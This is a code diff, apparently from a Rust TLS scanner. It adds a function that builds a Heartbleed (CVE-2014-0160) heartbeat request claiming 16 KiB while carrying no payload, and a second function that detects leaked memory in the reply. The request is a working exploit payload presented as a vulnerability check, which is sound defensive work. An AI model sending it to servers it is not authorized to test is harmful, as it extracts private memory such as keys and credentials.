@@ -40,6 +40,8 @@ pub mod ext {
     pub const SIGNATURE_ALGORITHMS: u16 = 13;
     /// application_layer_protocol_negotiation (RFC 7301).
     pub const ALPN: u16 = 16;
+    /// heartbeat (RFC 6520).
+    pub const HEARTBEAT: u16 = 15;
     /// signed_certificate_timestamp (RFC 6962).
     pub const SCT: u16 = 18;
     /// padding (RFC 7685).
@@ -245,6 +247,25 @@ pub fn sslv2_client_hello(kinds: &[u32], challenge: [u8; 16]) -> Vec<u8> {
     let mut out = (0x8000 | len).to_be_bytes().to_vec();
     out.extend_from_slice(&body);
     out
+}
+
+/// A heartbeat request (RFC 6520 §4) that claims a 16 KiB payload and carries none: a
+/// correct server discards it; one with CVE-2014-0160 (Heartbleed) answers with 16 KiB of its
+/// memory.
+pub fn heartbleed_request(version: u16) -> Vec<u8> {
+    let mut out = vec![24u8];
+    out.extend_from_slice(&version.to_be_bytes());
+    out.extend_from_slice(&[0x00, 0x03, 0x01, 0x40, 0x00]);
+    out
+}
+
+/// Whether `reply` (what came after the first flight) starts with a heartbeat response longer
+/// than the 3 bytes that were sent: memory the server should not have returned.
+pub fn leaks_heartbeat(reply: &[u8]) -> bool {
+    reply.len() >= 5
+        && reply[0] == 24
+        && reply[1] == 3
+        && usize::from(u16::from_be_bytes([reply[3], reply[4]])) > 3
 }
 
 /// SHA-256("HelloRetryRequest"): the ServerHello random that marks a HelloRetryRequest
